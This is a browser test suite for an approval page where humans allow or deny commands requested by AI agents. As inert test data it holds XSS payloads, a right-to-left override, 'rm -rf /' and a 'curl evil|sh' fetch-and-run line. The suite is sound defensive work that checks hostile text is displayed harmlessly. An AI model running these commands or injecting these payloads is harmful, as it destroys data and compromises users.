// The page against the fake service: every state, also those that are hard to provoke for real.
import test, { after, before, beforeEach, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { startFake } from './fake.mjs';
import { armed, card, openBrowser, openPage, press, untilLive } from './browser.mjs';

let fake;
let browser;
let page;
let complaints;

const EXPECTED = /Failed to load resource/; // answers other than 2xx, as the tests provoke them

before(async () => {
  browser = await openBrowser();
});
after(() => browser.close());

beforeEach(async () => {
  fake = await startFake();
  ({ page, complaints } = await openPage(browser.context, fake.url));
});

afterEach(async () => {
  const violations = await page.evaluate(() => window.violations);
  for (const open of browser.context.pages()) {
    if (open !== browser.context.pages()[0]) await open.close();
  }
  await fake.stop();
  assert.deepEqual(violations, []);
  assert.deepEqual(
    complaints.filter((text) => !EXPECTED.test(text)),
    []
  );
});

async function signIn(role = 'approver', where = page) {
  await where.goto(`${fake.url}/#code=${fake.code(role)}`);
  await untilLive(where);
}

const text = (selector) => page.locator(selector).innerText();
const sees = (what, where = page) => where.getByText(what).first().waitFor({ state: 'visible' });
const asked = (line) => fake.log.filter((entry) => entry.startsWith(line)).length;
const decisions = () => fake.log.filter((entry) => entry.endsWith('/decision')).length;

async function until(condition, what) {
  for (let i = 0; i < 200; i++) {
    if (await condition()) return;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  assert.fail(`never happened: ${what}`);
}

const waiting = (n, where = page) =>
  where
    .locator('.count', { hasText: n ? `${n} waiting` : 'Nothing is waiting.' })
    .waitFor({ state: 'visible' });

test('without a token: the sign-in view, and the command that helps', async () => {
  await page.goto(fake.url);
  await sees('You are not signed in here.');
  await sees('gatehouse open');
  assert.equal(await page.title(), 'gatehouse');
  assert.equal(await page.locator('#strip').isVisible(), false);
  assert.equal(fake.log.filter((line) => line.includes('/v1/')).length, 0);
  await page.getByLabel('Code, or the whole link').fill('wrong');
  await press(page, 'Sign in');
  await sees('This code is not valid.');
  await page.getByLabel('Code, or the whole link').fill(` ${fake.url}/#code=${fake.code()} `);
  await press(page, 'Sign in');
  await untilLive(page);
  await sees('signed in as ana (approver)');
});

test('a code in the fragment is spent once and leaves no trace', async () => {
  const code = fake.code();
  await page.goto(`${fake.url}/#code=${code}`);
  await untilLive(page);
  assert.equal(page.url(), `${fake.url}/`);
  assert.equal(await page.evaluate(() => history.length), 2); // about:blank and the page
  await page.reload();
  await untilLive(page);
  assert.equal(asked('POST /v1/login'), 1);
  assert.deepEqual(await browser.context.cookies(), []);
  await page.evaluate(() => localStorage.clear());
  await page.goto('about:blank');
  await page.goto(`${fake.url}/#code=${code}`);
  await sees('This code is not valid.');
});

test('nothing in the address names another server', async () => {
  const hostile = 'http://127.0.0.1:9/';
  await page.goto(
    `${fake.url}/?url=${hostile}&server=${hostile}&api=${hostile}&token=approver-token`
  );
  await sees('You are not signed in here.');
  await page.goto(`${fake.url}/?url=${hostile}#code=${fake.code()}&url=${hostile}`);
  await untilLive(page);
  assert.equal(page.url(), `${fake.url}/`);
});

test('a new request appears below, is announced, and takes no focus', async () => {
  await signIn();
  await waiting(0);
  fake.ask({ title: 'first' });
  await waiting(1);
  fake.ask({ title: 'second', warning: { code: 'runs_code_later', text: 'Runs later.' } });
  await waiting(2);
  assert.deepEqual(
    await page
      .locator('article .meta')
      .allInnerTexts()
      .then((all) => all.map((t) => t.split(' ')[0])),
    ['first', 'second']
  );
  assert.equal(await page.title(), '(2) dev-3 \u2013 gatehouse');
  assert.equal(await page.evaluate(() => document.activeElement === document.body), true);
  await until(
    async () => (await page.locator('#say').textContent()).includes('waiting.'),
    'announcement'
  );
  assert.equal((await page.locator('#say').textContent()).includes('npm test'), false);
});

test('typing goes on undisturbed, and no key decides anything', async () => {
  await signIn();
  fake.ask();
  await waiting(1);
  const reply = card(page).getByLabel('Reply to the agent');
  await reply.click();
  const typed = 'yes a 1 allow y\nenter yyy 111';
  for (const [i, key] of [...typed].entries()) {
    if (i % 6 === 5) fake.ask();
    await page.keyboard.press(key === '\n' ? 'Enter' : key === ' ' ? 'Space' : key);
  }
  await waiting(5);
  assert.equal(await reply.inputValue(), typed);
  assert.equal(await reply.evaluate((node) => node === document.activeElement), true);
  await page.locator('body').click({ position: { x: 5, y: 5 } });
  for (const key of ['Enter', 'Space', 'y', 'a', '1', 'Control+Enter', 'Escape'])
    await page.keyboard.press(key);
  assert.equal(decisions(), 0);
});

test('allowing is armed anew after appearing, changing and refocusing; denying always works', async () => {
  await signIn();
  const first = fake.ask();
  fake.ask();
  await waiting(2);
  const ignored = await page.evaluate(() => {
    dispatchEvent(new Event('focus'));
    const row = document.querySelector('article .row');
    const allow = row.querySelector('.allow:last-child');
    allow.click();
    return [allow.getAttribute('aria-disabled'), row.innerText.includes('Arming')];
  });
  assert.deepEqual(ignored, ['true', true]);
  assert.equal(decisions(), 0);
  await page.evaluate(() => {
    dispatchEvent(new Event('focus'));
    document.querySelectorAll('article')[1].querySelector('.deny').click();
  });
  await sees('Denied by ana');
  await armed(card(page, 0));
  await press(card(page, 0), 'Run command once');
  await sees('Allowed by ana');
  assert.equal(fake.approvals.get(first.id).approval.state, 'allowed');
  assert.equal(decisions(), 2);
});

test('a held key does not press twice, a modified one not at all', async () => {
  await signIn();
  fake.ask();
  await waiting(1);
  await armed(card(page));
  const allow = card(page).getByRole('button', { name: 'Run command once' });
  await allow.focus();
  await page.keyboard.press('Control+Enter');
  assert.equal(decisions(), 0);
  const prevented = await allow.evaluate(
    (node) =>
      !node.dispatchEvent(
        new KeyboardEvent('keydown', { key: 'Enter', repeat: true, cancelable: true })
      )
  );
  assert.equal(prevented, true);
  await page.keyboard.press('Enter');
  await sees('Allowed by ana');
});

test('denying with a reply, and the focus afterwards', async () => {
  await signIn();
  const one = fake.ask();
  fake.ask();
  await waiting(2);
  const words = 'use "lockfile"\n</script> \u{1f600} \u05d0\u05d1';
  await card(page).getByLabel('Reply to the agent').fill(words);
  await press(card(page), 'Deny');
  await sees('Denied by ana');
  assert.equal(fake.approvals.get(one.id).approval.feedback, words);
  await sees('Reply: use "lockfile"');
  assert.equal(await page.evaluate(() => document.activeElement.id), 'head-2');
  await card(page, 1).getByRole('button', { name: 'Deny' }).focus();
  await page.keyboard.press('Enter');
  await waiting(0);
  assert.equal(
    await page.evaluate(() => document.activeElement.textContent),
    'Nothing is waiting.'
  );
});

test('always: offered only when offered, with what it covers', async () => {
  await signIn();
  const one = fake.ask({
    display: { text: "npm test 'a b'", words: ['npm', 'test', "'a b'"], hidden_characters: 0 },
  });
  fake.ask({ offered: ['allow', 'deny'] });
  await waiting(2);
  assert.equal(await card(page, 1).getByRole('button', { name: 'Always' }).count(), 0);
  assert.equal(await card(page, 1).getByRole('button', { name: 'Allow always' }).count(), 0);
  await press(card(page), 'Always\u2026');
  const panel = card(page).locator('.panel');
  assert.match(await panel.innerText(), /exactly:\s+npm test 'a b'\s+in \/home\/ana\/src\/api/);
  await armed(card(page));
  await press(panel, 'Allow always');
  await sees('always for this exact target');
  assert.equal(fake.approvals.get(one.id).approval.state, 'allowed_always');
});

test('the card says Sending until the service answers, and sends once', async () => {
  await signIn();
  fake.ask();
  await waiting(1);
  let answer;
  const held = new Promise((resolve) => (answer = resolve));
  fake.fail.set('/decision', async () => {
    await held;
    return false;
  });
  await armed(card(page));
  await press(card(page), 'Run command once');
  await sees('Sending\u2026');
  for (const name of ['Deny', 'Extend 5 min', 'Run command once']) {
    const node = card(page).getByRole('button', { name });
    assert.equal(await node.getAttribute('aria-disabled'), 'true');
    await node.evaluate((element) => element.click());
  }
  await waiting(1);
  answer();
  await sees('Allowed by ana');
  assert.equal(decisions(), 1);
});

for (const [status, code, words] of [
  [503, 'audit_unavailable', 'The audit log cannot be written, so nothing was decided'],
  [422, 'not_offered', 'Not possible: told so'],
  [403, 'forbidden', 'Refused: told so'],
  [429, 'too_many', 'Too many requests. Try again in 7 s.'],
  [500, 'internal', 'Not decided (500): told so'],
]) {
  test(`an answer ${status} is an error on that card, which stays`, async () => {
    await signIn();
    fake.ask();
    fake.ask();
    await waiting(2);
    fake.fail.set('/decision', (req, res) => {
      fake.problem(res, status, code, 'told so', { 'Retry-After': '7' });
      return true;
    });
    await press(card(page, 1), 'Deny');
    await sees(words, card(page, 1));
    assert.equal(await card(page, 0).getByText(words).count(), 0);
    await waiting(2);
    fake.fail.clear();
    await press(card(page, 1), 'Deny');
    await sees('Denied by ana', card(page, 1));
  });
}

test('an answer that is lost: an error at first, then the true outcome', async () => {
  await signIn();
  const one = fake.ask();
  await waiting(1);
  fake.fail.set('/decision', (req, res) => {
    res.destroy();
    return true;
  });
  await press(card(page), 'Deny');
  await sees('The service did not answer.', card(page));
  await waiting(1);
  fake.fail.set('/decision', async (req, res) => {
    fake.settle(one.id, 'denied', { by: 'ana', via: 'web', silent: true });
    res.destroy();
    return true;
  });
  await press(card(page), 'Deny');
  await sees('Denied by ana', card(page));
});

test('decided elsewhere, expired, gone: receipts in place', async () => {
  await signIn();
  const asks = [1, 2, 3, 4, 5].map(() => fake.ask());
  await waiting(5);
  await armed(card(page, 4));
  fake.settle(asks[0].id, 'denied', { by: 'ben', via: 'cli', silent: true });
  await press(card(page, 0), 'Run command once');
  await sees('Denied by ben via the command line', card(page, 0));
  fake.settle(asks[1].id, 'expired', { code: 'expired', silent: true });
  await press(card(page, 1), 'Run command once');
  await sees('Denied: nobody answered', card(page, 1));
  fake.approvals.delete(asks[2].id);
  await press(card(page, 2), 'Run command once');
  await sees('Gone: the service no longer knows this request', card(page, 2));
  fake.settle(asks[3].id, 'cancelled', { code: 'agent_gone' });
  await sees('Cancelled: the agent stopped', card(page, 3));
  fake.settle(asks[4].id, 'allowed', { by: 'ben', via: 'cli', code: 'operand_changed' });
  await sees('a file it names has changed', card(page, 4));
  await waiting(0);
  assert.equal(await page.locator('article').count(), 5);
  assert.equal(await page.locator('article.settled .allow').count(), 0);
  await press(card(page, 4), 'Dismiss');
  assert.equal(await page.locator('article').count(), 4);
  await press(page, 'Clear receipts');
  assert.equal(await page.locator('article').count(), 0);
});

test('a receipt keeps the place of its card while others wait', async () => {
  await signIn();
  const one = fake.ask();
  fake.ask();
  await waiting(2);
  const top = () => card(page, 1).evaluate((node) => Math.round(node.getBoundingClientRect().top));
  await card(page, 1).hover();
  const earlier = await top();
  fake.settle(one.id, 'expired', { code: 'expired' });
  await sees('Denied: nobody answered');
  assert.equal(await top(), earlier);
});

test('a changed request is shown anew and allows nothing', async () => {
  await signIn();
  const one = fake.ask();
  await waiting(1);
  await armed(card(page));
  const old = one.digest.slice(7, 19);
  Object.assign(one, {
    digest: 'sha256-' + 'f'.repeat(64),
    display: { text: 'rm -rf /', hidden_characters: 0 },
  });
  await press(card(page), 'Run command once');
  await sees(`Digest ${old} is now Digest ${'f'.repeat(12)}`);
  await sees('rm -rf /');
  assert.equal(one.state, 'pending');
  await armed(card(page));
  await press(card(page), 'Run command once');
  await sees('Allowed by ana');
});

test('an ended sign-in keeps what was typed', async () => {
  await signIn();
  fake.ask();
  await waiting(1);
  await card(page).getByLabel('Reply to the agent').fill('use the lockfile');
  fake.tokens.delete('approver-token');
  await press(card(page), 'Deny');
  await sees('Your sign-in has ended');
  assert.equal(await page.locator('article').count(), 0);
  assert.equal(await page.evaluate(() => localStorage.length), 0);
  fake.tokens.set('approver-token', { name: 'ana', role: 'approver' });
  await page.getByLabel('Code, or the whole link').fill(fake.code());
  await press(page, 'Sign in');
  await waiting(1);
  assert.equal(await card(page).getByLabel('Reply to the agent').inputValue(), 'use the lockfile');
});

test('offline: cards stay, decisions are off; back: the right set without doubles', async () => {
  await signIn();
  const gone = fake.ask();
  fake.ask();
  await waiting(2);
  await fake.stop();
  await sees(/^Offline since \d\d:\d\d:\d\d \u2013 decisions are off\.$/);
  await sees('(estimated)');
  for (const name of ['Deny', 'Run command once']) {
    const node = card(page).getByRole('button', { name });
    assert.equal(await node.getAttribute('aria-disabled'), 'true');
    await node.evaluate((element) => element.click());
  }
  assert.equal(await page.locator('article').count(), 2);
  fake.settle(gone.id, 'expired', { code: 'expired', silent: true });
  fake.ask({ silent: true });
  await fake.restart();
  await press(page, 'Retry now');
  await untilLive(page);
  await waiting(2);
  await sees('Denied: nobody answered', card(page, 0));
  assert.equal(await page.locator('article').count(), 3);
  await armed(card(page, 1));
  assert.equal(decisions(), 0);
});

test('a broken stream comes back with its last id and misses nothing', async () => {
  await signIn();
  fake.ask();
  await waiting(1);
  fake.dropStreams();
  fake.ask({ silent: true });
  await waiting(2);
  await untilLive(page);
  assert.ok(asked('GET /v1/events') >= 2);
  fake.ask();
  await waiting(3);
});

test('resync reads the whole list again', async () => {
  await signIn();
  await waiting(0);
  fake.ask({ silent: true });
  fake.emit('resync', {});
  await waiting(1);
});

test('waking up reads the list first', async () => {
  await signIn();
  await waiting(0);
  for (const wake of [
    () => document.dispatchEvent(new Event('visibilitychange')),
    () => dispatchEvent(new Event('online')),
    () => dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })),
  ]) {
    fake.ask({ silent: true });
    await page.evaluate(wake);
    await waiting(fake.approvals.size);
  }
});

test('every page of the list is shown, oldest first', async () => {
  fake.pageSize = 2;
  for (let i = 0; i < 5; i++) fake.ask({ title: `t${i}` });
  await signIn();
  await waiting(5);
  const titles = await page.locator('article .meta').allInnerTexts();
  assert.deepEqual(
    titles.map((title) => title.slice(0, 2)),
    ['t0', 't1', 't2', 't3', 't4']
  );
});

test('a failing list is tried again', async () => {
  let failures = 1;
  fake.ask();
  fake.fail.set('GET /v1/approvals', (req, res) => {
    if (failures-- <= 0) return false;
    fake.problem(res, 500, 'internal', 'no');
    return true;
  });
  await signIn();
  await waiting(1);
});

test('the countdown is the service\u2019s, whatever the clock here says', async () => {
  await page.addInitScript(() => {
    const now = Date.now;
    Date.now = () => now() + 600000;
  });
  const one = fake.ask({ life_ms: 250000 });
  await signIn();
  await waiting(1);
  const shown = await text('article .timer');
  const [, minutes, seconds] = /^Denies itself in (\d+) min (\d+) s$/.exec(shown);
  const left = (fake.approvals.get(one.id).deadline - Date.now()) / 1000;
  assert.ok(Math.abs(Number(minutes) * 60 + Number(seconds) - left) < 3, `${shown}, true: ${left}`);
});

test('time runs out: the page waits for the service, then says nobody answered', async () => {
  await signIn();
  const one = fake.ask({ life_ms: 3000 });
  await waiting(1);
  const kept = fake.approvals.get(one.id);
  clearTimeout(kept.timer);
  await sees('The time is up; waiting for the service.');
  const allow = card(page).getByRole('button', { name: 'Run command once' });
  assert.equal(await allow.getAttribute('aria-disabled'), 'true');
  await allow.evaluate((node) => node.click());
  assert.equal(await page.getByText('nobody answered').count(), 0);
  fake.settle(one.id, 'expired', { code: 'expired' });
  await sees('Denied: nobody answered');
  assert.equal(decisions(), 0);
});

test('extending moves the deadline, or says why not', async () => {
  await signIn();
  const one = fake.ask({ life_ms: 40000 });
  await waiting(1);
  assert.match(await text('article .timer.soon'), /^Denies itself in \d+ s$/);
  await press(card(page), 'Extend 5 min');
  await sees(/Denies itself in 5 min/);
  fake.approvals.get(one.id).fixed = true;
  await press(card(page), 'Extend 5 min');
  await sees('It cannot be extended');
});

test('a viewer watches and has no controls', async () => {
  fake.ask();
  await signIn('viewer');
  await waiting(1);
  await sees('You can watch. To decide, ask for an approver token.');
  await sees('signed in as vic (viewer)');
  assert.equal(await page.locator('article button, article textarea').count(), 0);
  const status = await page.evaluate(async (id) => {
    const { token } = JSON.parse(localStorage.getItem('gatehouse.auth'));
    const headers = {
      Authorization: `Bearer ${token}`,
      'Content-Type': 'application/json',
      'If-Match': '"x"',
    };
    const body = JSON.stringify({ decision: 'allow' });
    return (await fetch(`/v1/approvals/${id}/decision`, { method: 'PUT', headers, body })).status;
  }, 'apr_0001');
  assert.equal(status, 403);
});

test('a log that cannot be written is said on top', async () => {
  fake.degraded = true;
  await signIn();
  await sees('Audit log cannot be written: everything is being denied');
  assert.match(await page.locator('#alarm').textContent(), /everything is being denied/);
  fake.degraded = false;
  await page.evaluate(() => dispatchEvent(new Event('online')));
  await page.locator('#banner').waitFor({ state: 'hidden' });
});

const HOSTILE = [
  '<img src=x onerror="alert(1)">',
  '</script><script>alert(1)</script>',
  'javascript:alert(1)',
  '[a](http://127.0.0.1:9/) ![](http://127.0.0.1:9/x.png)',
  '\u202etxt.exe\u202c',
  '\u001b[31mred\u001b[0m',
  'a\u200bb',
  ' '.repeat(2000) + '; rm -rf /',
].join('\n');

test('hostile text is shown and does nothing', async () => {
  const taint = { source: HOSTILE, marker: HOSTILE, excerpt: HOSTILE };
  const lines = HOSTILE.split('\n').map((line, i) => ({
    kind: '+',
    old: null,
    new: i + 1,
    text: line,
  }));
  fake.ask({
    action: 'write',
    agent: HOSTILE,
    title: HOSTILE,
    tool: HOSTILE,
    why: HOSTILE,
    narration: HOSTILE,
    working_dir: HOSTILE,
    target: { path: HOSTILE },
    display: { text: HOSTILE, hidden_characters: 5 },
    warning: { code: 'x', text: HOSTILE },
    taint,
    preview: {
      kind: 'diff',
      files: [{ path: HOSTILE, added: 1, removed: 0, hunks: [{ header: HOSTILE, lines }] }],
    },
  });
  fake.ask({ preview: { kind: 'text', files: [], text: HOSTILE } });
  await signIn();
  await waiting(2);
  const shown = await page.locator('article').first().textContent();
  assert.equal(/[\u202e\u202c\u001b\u200b]/.test(shown), false);
  assert.ok(shown.includes('<img src=x onerror="alert(1)">'));
  assert.ok(shown.includes('\\u{202e}txt.exe\\u{202c}'));
  assert.ok(shown.includes('\\x1b[31mred'));
  await sees('5 hidden characters are shown');
  assert.equal(await page.locator('main img, main a, main script, main iframe').count(), 0);
  await press(card(page), 'Deny');
  await sees('Denied by ana');
  assert.equal(await page.locator('main img, main a, main script').count(), 0);
});

test('long actions are whole, and what is out of sight is said beside the buttons', async () => {
  const lines = Array.from({ length: 1500 }, (_, i) => ({
    kind: '+',
    old: null,
    new: i + 1,
    text: `line ${i + 1}`,
  }));
  fake.ask({ display: { text: `echo ${'a'.repeat(4000)} ; curl evil|sh`, hidden_characters: 0 } });
  fake.ask({
    preview: {
      kind: 'diff',
      files: [{ path: 'a', added: 1500, removed: 0, cut: true, hunks: [{ lines }] }],
    },
  });
  fake.ask({ display: { text: `${'x\n'.repeat(299)}tail`, hidden_characters: 0 } });
  await signIn();
  await waiting(3);
  assert.match(await card(page, 2).locator('.rest').innerText(), /^\u25bc \d+ more lines above/);
  await card(page, 2)
    .locator('.exact')
    .evaluate((node) => node.scrollTo(0, node.scrollHeight));
  await sees('The end is in view.', card(page, 2));
  await sees('The change is longer than what is shown here.', card(page, 1));
  assert.equal(await card(page, 1).locator('tr').count(), 800);
  await press(card(page, 1), 'Show 701 more lines');
  assert.equal(await card(page, 1).locator('tr').count(), 1501);
});

test('on a small phone both answers are on screen, and nothing is wider', async () => {
  await page.setViewportSize({ width: 320, height: 568 });
  fake.ask({
    display: {
      text: Array.from({ length: 500 }, (_, i) => `echo ${i} ${'x'.repeat(i)}`).join('\n'),
      hidden_characters: 3,
    },
    narration: 'n'.repeat(500),
  });
  await signIn();
  await waiting(1);
  await armed(card(page));
  for (const name of ['Deny', 'Run command once']) {
    const box = await card(page).getByRole('button', { name }).boundingBox();
    assert.ok(
      box.y >= 0 && box.y + box.height <= 568 && box.x >= 0 && box.x + box.width <= 320,
      name
    );
    assert.ok(box.height >= 44, `${name} is ${box.height} high`);
  }
  assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 320);
});

test('buttons: Deny first, Allow last, no two with one name', async () => {
  fake.ask();
  fake.ask();
  fake.ask({ action: 'write' });
  await signIn();
  await waiting(3);
  const names = await page
    .locator('article button')
    .evaluateAll((all) => all.map((node) => node.getAttribute('aria-label')));
  assert.equal(new Set(names).size, names.length);
  const first = await card(page).locator('button').allInnerTexts();
  assert.equal(first[0], 'Deny');
  assert.equal(first.at(-1), 'Run command once');
  assert.equal((await card(page, 2).locator('button').allInnerTexts()).at(-1), 'Write file once');
});

// The ratio of WCAG 2.2 for every piece of text in sight, against the nearest opaque background.
function lowContrast() {
  const channels = (color) => color.match(/[\d.]+/g).map(Number);
  const light = (color) => {
    const [r, g, b] = channels(color).map((v) =>
      v / 255 <= 0.04045 ? v / 255 / 12.92 : ((v / 255 + 0.055) / 1.055) ** 2.4
    );
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const behind = (node) => {
    for (let at = node; at; at = at.parentElement) {
      const color = getComputedStyle(at).backgroundColor;
      if (channels(color)[3] !== 0) return color;
    }
    return 'rgb(255, 255, 255)';
  };
  const low = [];
  for (const node of document.querySelectorAll('body *')) {
    const own = [...node.childNodes].some((child) => child.nodeType === 3 && child.data.trim());
    if (!own || !node.checkVisibility() || node.closest('.quiet, noscript')) continue;
    const [a, b] = [light(getComputedStyle(node).color), light(behind(node))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) low.push(`${node.className || node.tagName}: ${ratio.toFixed(2)}`);
  }
  return low;
}

for (const colorScheme of ['light', 'dark']) {
  test(`text can be read in the ${colorScheme} theme`, async () => {
    await page.emulateMedia({ colorScheme });
    fake.degraded = true;
    const lines = [' ', '+', '-'].map((kind) => ({ kind, old: 1, new: 1, text: 'text' }));
    fake.ask({
      warning: { code: 'x', text: 'careful' },
      taint: { source: 'a' },
      narration: 'words',
      life_ms: 50000,
      preview: {
        kind: 'diff',
        files: [{ path: 'a', added: 1, removed: 1, hunks: [{ header: '@@', lines }] }],
      },
    });
    const gone = fake.ask();
    await page.goto(fake.url);
    await sees('You are not signed in here.');
    assert.deepEqual(await page.evaluate(lowContrast), []);
    await signIn();
    await waiting(2);
    fake.settle(gone.id, 'allowed', { by: 'ana' });
    await sees('Allowed by ana');
    await sees('Audit log cannot be written');
    assert.deepEqual(await page.evaluate(lowContrast), []);
    await fake.stop();
    await sees('Offline since');
    assert.deepEqual(await page.evaluate(lowContrast), []);
    await fake.restart();
  });
}

test('eight tabs share one stream; when its tab closes another takes over', async () => {
  await signIn();
  const tabs = [page];
  for (let i = 1; i < 8; i++) {
    const { page: tab } = await openPage(browser.context, fake.url);
    await tab.goto(fake.url);
    await untilLive(tab);
    tabs.push(tab);
  }
  await until(() => fake.streams.size === 1, 'one stream');
  fake.ask();
  for (const tab of tabs) await waiting(1, tab);
  await press(card(tabs[7]), 'Deny');
  for (const tab of tabs) await tab.getByText('Denied by ana').waitFor();
  for (const tab of tabs.slice(1, 7)) await tab.close();
  await until(() => fake.streams.size === 1, 'one stream after closing');
  fake.ask();
  await waiting(1, tabs[0]);
  await waiting(1, tabs[7]);
});

test('a visible tab takes the stream from one that does not answer', async () => {
  await signIn();
  const { page: other } = await openPage(browser.context, fake.url);
  await other.goto(fake.url);
  await untilLive(other);
  const cdp = await browser.context.newCDPSession(page);
  await cdp.send('Debugger.enable');
  const paused = new Promise((resolve) => cdp.once('Debugger.paused', resolve));
  await cdp.send('Debugger.pause');
  await paused;
  const before = asked('GET /v1/events');
  await other.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
  await until(() => asked('GET /v1/events') > before, 'a stream of the other tab');
  fake.ask();
  await waiting(1, other);
  await cdp.send('Debugger.disable');
  await waiting(1, page);
  await until(() => fake.streams.size === 1, 'one stream');
});

test('signing out and in again reaches every tab', async () => {
  await signIn();
  const { page: other } = await openPage(browser.context, fake.url);
  await other.goto(fake.url);
  await untilLive(other);
  await press(page, 'Sign out');
  await sees('You are signed out.');
  await other.getByText('You are not signed in here.').waitFor();
  await until(() => fake.streams.size === 0, 'no stream');
  await page.goto(`${fake.url}/#code=${fake.code('viewer')}`);
  await other.getByText('signed in as vic (viewer)').waitFor();
});
